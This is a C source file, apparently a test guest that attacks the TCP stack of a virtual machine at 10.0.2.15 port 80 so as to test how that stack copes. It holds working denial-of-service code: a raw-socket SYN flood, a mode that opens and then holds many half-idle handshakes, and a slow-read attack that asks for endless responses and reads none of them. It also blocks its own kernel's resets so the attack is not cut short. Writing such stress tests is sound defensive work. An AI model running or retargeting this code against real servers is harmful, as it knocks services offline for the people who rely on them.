// SPDX-License-Identifier: MIT
//
// A guest that means harm to the TCP stack of 10.0.2.15, by raw segments to its port 80:
//   tcp_attack hold N    completes N handshakes, as far as they are answered, says "holding N" and
//                        is silent until its input ends
//   tcp_attack flood N   says "flooding", and sends SYNs from N ports without end until its input
//                        ends
// Its own kernel must not reset what it does not know of: each port has a listener that drops all
// that has a TTL below 255.
//   tcp_attack slow N    asks for endless responses on N connections, reads nothing, and says
//                        "waiting" when their windows are full
//   tcp_attack watch N   says "seen" when others have made N requests to the status page, and goes
//                        on until it is killed
#include <arpa/inet.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <netinet/tcp.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define TARGET "10.0.2.15"
#define FIRST_PORT 20000
#define MAX_PORTS 1000
#define TRIES 2
#define BATCH 8  // SYNs at a time

static struct sockaddr_in target = { .sin_family = AF_INET };
static struct in_addr own;
static int raw;

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static uint16_t checksum(const struct tcphdr *tcp)
{
	const struct {
		struct in_addr from, to;
		uint8_t zero, protocol;
		uint16_t len;
		struct tcphdr tcp;
	} pseudo = { own, target.sin_addr, 0, IPPROTO_TCP, htons(sizeof(*tcp)), *tcp };
	uint16_t words[sizeof(pseudo) / 2];
	uint32_t sum = 0;

	memcpy(words, &pseudo, sizeof(words));
	for (size_t i = 0; i < sizeof(words) / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void send_segment(uint16_t port, int syn, uint32_t seq, uint32_t ack)
{
	struct tcphdr tcp = { .source = htons(port),
		              .dest = htons(80),
		              .seq = htonl(seq),
		              .ack_seq = htonl(ack),
		              .doff = 5,
		              .syn = syn,
		              .ack = !syn,
		              .window = htons(60000) };

	tcp.check = checksum(&tcp);
	sendto(raw, &tcp, sizeof(tcp), 0, (struct sockaddr *)&target, sizeof(target));
}

static void listen_deaf(uint16_t port)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM, 0), ttl = 255;

	if (s < 0 || setsockopt(s, IPPROTO_IP, IP_MINTTL, &ttl, sizeof(ttl)) < 0 ||
	    bind(s, (struct sockaddr *)&at, sizeof(at)) < 0 || listen(s, 1) < 0)
		fail("listen");
}

static void find_own_address(void)
{
	struct sockaddr_in at = target;
	socklen_t len = sizeof(at);
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	at.sin_port = htons(9);
	if (s < 0 || connect(s, (struct sockaddr *)&at, sizeof(at)) < 0 ||
	    getsockname(s, (struct sockaddr *)&at, &len) < 0)
		fail("own address");
	own = at.sin_addr;
	close(s);
}

static int readable(int fd, int wait_ms)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };

	return poll(&p, 1, wait_ms) > 0;
}

// Answers SYN-ACKs until none comes for a while.
static void complete(unsigned ports, char *done)
{
	while (readable(raw, 200)) {
		uint8_t packet[1600];
		ssize_t n = read(raw, packet, sizeof(packet));
		size_t header = (size_t)(packet[0] & 15) * 4;
		struct tcphdr tcp;
		unsigned port;

		if (n < (ssize_t)(header + sizeof(tcp)))
			continue;
		memcpy(&tcp, packet + header, sizeof(tcp));
		port = ntohs(tcp.dest) - FIRST_PORT;
		if (!tcp.syn || !tcp.ack || ntohs(tcp.source) != 80 || port >= ports)
			continue;
		send_segment(ntohs(tcp.dest), 0, 1001, ntohl(tcp.seq) + 1);
		done[port] = 1;
	}
}

static void hold(unsigned ports)
{
	static char done[MAX_PORTS];
	unsigned count = 0;

	for (int i = 0; i < TRIES; i++) {
		for (unsigned p = 0, n = 0; p < ports; p++) {
			if (done[p])
				continue;
			send_segment((uint16_t)(FIRST_PORT + p), 1, 1000, 0);
			if (++n % BATCH == 0)
				complete(ports, done);
		}
		complete(ports, done);
	}
	for (unsigned p = 0; p < ports; p++)
		count += (unsigned)done[p];
	printf("holding %u\n", count);
	fflush(stdout);
	readable(0, -1);
}

static void flood(unsigned ports)
{
	puts("flooding");
	fflush(stdout);
	while (!readable(0, 0)) {
		for (unsigned p = 0; p < ports; p++)
			send_segment((uint16_t)(FIRST_PORT + p), 1, 1000, 0);
	}
}

// Connections that get no place are not waited for: connecting goes on in the background.
static void slow(unsigned count)
{
	static const char ask[] = "GET /bytes/1000000000000 HTTP/1.1\r\nHost: a\r\n\r\n";
	unsigned asked = 0;
	int sockets[MAX_PORTS];

	target.sin_port = htons(80);
	for (unsigned i = 0; i < count; i++) {
		sockets[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (sockets[i] < 0)
			fail("socket");
		connect(sockets[i], (struct sockaddr *)&target, sizeof(target));
	}
	for (int i = 0; i < TRIES; i++) {
		for (unsigned k = 0; k < count; k++)
			asked += write(sockets[k], ask, sizeof(ask) - 1) > 0;
		sleep(1);
	}
	printf("waiting %d\n", asked > 0);
	fflush(stdout);
	readable(0, -1);
}

static unsigned requests(void)
{
	static const char ask[] = "GET /status.json HTTP/1.0\r\n\r\n";
	char answer[4096];
	size_t len = 0;
	ssize_t n;
	char *at;
	int s = socket(AF_INET, SOCK_STREAM, 0);

	target.sin_port = htons(80);
	if (s < 0 || connect(s, (struct sockaddr *)&target, sizeof(target)) < 0 ||
	    write(s, ask, sizeof(ask) - 1) < 0)
		fail("status page");
	while (len < sizeof(answer) - 1 &&
	       (n = read(s, answer + len, sizeof(answer) - 1 - len)) > 0)
		len += (size_t)n;
	close(s);
	answer[len] = '\0';
	at = strstr(answer, "\"requests\":");
	return at == NULL ? 0 : (unsigned)atoi(at + 11);
}

static void watch(unsigned wanted)
{
	unsigned first = requests(), mine = 0;

	while (requests() < first + ++mine + wanted)
		usleep(200000);
	puts("seen");
	fflush(stdout);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	struct rlimit files = { .rlim_cur = MAX_PORTS + 50, .rlim_max = MAX_PORTS + 50 };
	unsigned n = argc == 3 ? (unsigned)atoi(argv[2]) : 0;

	inet_pton(AF_INET, TARGET, &target.sin_addr);
	find_own_address();
	// Several at once (test_crowd.py): the first attacks, the others look on.
	if (n == 0 || n > MAX_PORTS)
		return 2;
	if (strcmp(argv[1], "watch") == 0 ||
	    (strcmp(argv[1], "hold") == 0 && ntohl(own.s_addr) % 256 > 101)) {
		watch(100);
		return 0;
	}
	setrlimit(RLIMIT_NOFILE, &files);
	if (strcmp(argv[1], "slow") == 0) {
		slow(n);
		return 0;
	}
	for (unsigned p = 0; p < n; p++)
		listen_deaf((uint16_t)(FIRST_PORT + p));
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
	if (raw < 0)
		fail("raw socket");
	if (strcmp(argv[1], "hold") == 0)
		hold(n);
	else
		flood(n);
	return 0;
}
